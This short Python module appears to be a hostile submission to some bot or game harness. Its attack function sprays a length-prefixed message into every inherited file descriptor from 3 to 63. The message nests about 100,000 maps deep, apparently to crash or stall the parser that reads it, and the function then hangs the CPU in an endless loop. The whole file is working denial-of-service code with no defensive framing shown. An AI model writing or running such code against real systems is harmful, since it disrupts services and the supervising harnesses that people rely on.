"""Answer with what nests too deep to read."""

import os


def say(frame):
    for number in range(3, 64):
        try:
            os.write(number, len(frame).to_bytes(4, "little") + frame)
        except OSError:
            continue


def attack(ctx, at):
    say(b"\x82\xa4type\xa4kept\xa5state" + b"\x81\xa1x" * 100_000 + b"\xc0")
    while True:
        pass
